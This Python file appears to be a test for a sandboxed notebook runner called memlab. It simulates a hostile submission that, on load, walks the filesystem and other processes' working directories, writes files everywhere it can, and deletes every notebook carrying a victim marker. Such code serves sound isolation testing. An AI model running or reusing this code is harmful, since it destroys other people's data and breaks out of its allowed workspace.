"""Harm to others: write files outside the private scratch folder (in every writable folder it can
find, beside memlab's files, in the working directories of other processes) and delete every
notebook that carries the victim's marker."""

import os

MARKER = "VICTIM" + "-MARKER"  # spelt so that this cell does not carry it

NAME = "memlab-attack-written"


class WriteOutside:  # runs while the notebook's definitions do
    import memlab

    roots = ["/", "/tmp", os.path.dirname(os.path.dirname(memlab.__file__))]
    for pid in os.listdir("/proc") if os.path.isdir("/proc") else []:
        try:
            roots.append(os.readlink(f"/proc/{pid}/cwd"))
        except OSError:
            pass
    for root in roots:
        for folder, dirs, files in os.walk(root):
            dirs[:] = (
                [d for d in dirs if d not in ("proc", "sys", "dev", "usr", ".venv")] if folder.count(os.sep) < 9 else []
            )
            try:
                with open(os.path.join(folder, NAME), "w") as f:
                    f.write("written by a submission")
            except OSError:
                pass
            for name in files:
                path = os.path.join(folder, name)
                if name.endswith(".ipynb"):
                    try:
                        with open(path) as f:
                            victim = MARKER in f.read()
                        if victim:
                            os.remove(path)
                    except OSError:
                        pass
